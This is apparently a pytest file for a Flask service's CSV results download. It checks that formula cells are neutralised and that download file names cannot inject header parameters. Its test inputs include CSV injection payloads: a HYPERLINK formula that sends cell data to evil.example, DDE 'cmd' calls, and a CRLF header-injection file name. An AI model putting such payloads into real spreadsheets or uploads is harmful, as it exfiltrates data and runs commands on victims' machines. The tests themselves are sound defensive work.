"""The results download is safe to open and to name: formula cells are neutralised (OWASP CSV injection) and
Content-Disposition follows RFC 6266 / 5987, so Vietnamese names download and a quote cannot add a parameter."""

from __future__ import annotations

import csv
import io
from datetime import date

from flask import Response
from werkzeug.http import parse_options_header

from backend.verification.routes import set_download_name
from tests.backend.verification.test_jobs import upload

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _download(client, headers, response):
    assert response.status_code == 202, response.json
    job = client.get(f"/api/v1/verification/jobs/{response.json['id']}", headers=headers).json
    assert job["status"] == "done", job
    return client.get(job["results_url"], headers=headers)


def test_formula_cells_are_neutralised_and_legitimate_values_kept(client, factory, agency_headers):
    an = factory.citizen(full_name="Nguyễn Văn An", date_of_birth=date(1990, 1, 1))
    rows = [[an.personal_id, "Nguyễn Văn An", "1990-01-01", "Nam", "HS-1"]]
    rows += [[an.personal_id, text, "1990-01-01", "Nam", text] for text in HOSTILE]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["so_dinh_danh", "ho_ten", "ngay_sinh", "gioi_tinh", "=ghi_chu"]] + rows)
    download = _download(client, agency_headers, upload(client, agency_headers, buffer.getvalue().encode()))
    table = list(csv.reader(io.StringIO(download.get_data().decode("utf-8-sig"), newline="")))
    assert table[0][4] == "'=ghi_chu"  # the agency's own header is a cell too
    assert table[1][:5] == rows[0] and table[1][6] == "match"  # untouched: dates, IDs, inner hyphens
    for row, text in zip(table[2:], HOSTILE, strict=True):
        assert row[1] == row[4] == "'" + text, row
        assert row[6] == "mismatch" and "full_name" in row[7]  # compared as sent, only the output is defused
    for row in table:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_vietnamese_file_name_downloads_with_rfc6266_filename_star(client, factory, agency_headers):
    content = b"so_dinh_danh,ho_ten,ngay_sinh,gioi_tinh\n001090000001,An,1990-01-01,Nam\n"
    download = _download(
        client, agency_headers, upload(client, agency_headers, content, filename="Danh sách học sinh.csv")
    )
    header = download.headers["Content-Disposition"]
    assert header.isascii()
    assert "filename*=UTF-8''Danh%20s%C3%A1ch%20h%E1%BB%8Dc%20sinh-verified.csv" in header
    kind, params = parse_options_header(header)
    assert kind == "attachment" and params["filename"] == "Danh sách học sinh-verified.csv"  # filename* wins
    assert 'filename="Danh sach hoc sinh-verified.csv"' in header


def test_a_quote_in_the_file_name_cannot_inject_a_parameter():
    # Browsers percent-encode a quote in a multipart file name and werkzeug's parser stops at it, so an
    # upload cannot deliver one through the test client; the job's stored name is whatever arrived.
    response = Response()
    name = 'x"; filename="evil.exe\r\nX-Injected: 1.csv'
    set_download_name(response, name)
    header = response.headers["Content-Disposition"]
    assert len(header.split("; ")) == 3 and header.count('"') == 2 and "\r" not in header
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback == "x filename=evil.exeX-Injected: 1.csv"  # quotes, semicolons, CR LF gone
    kind, params = parse_options_header(header)
    assert kind == "attachment" and params == {"filename": name}
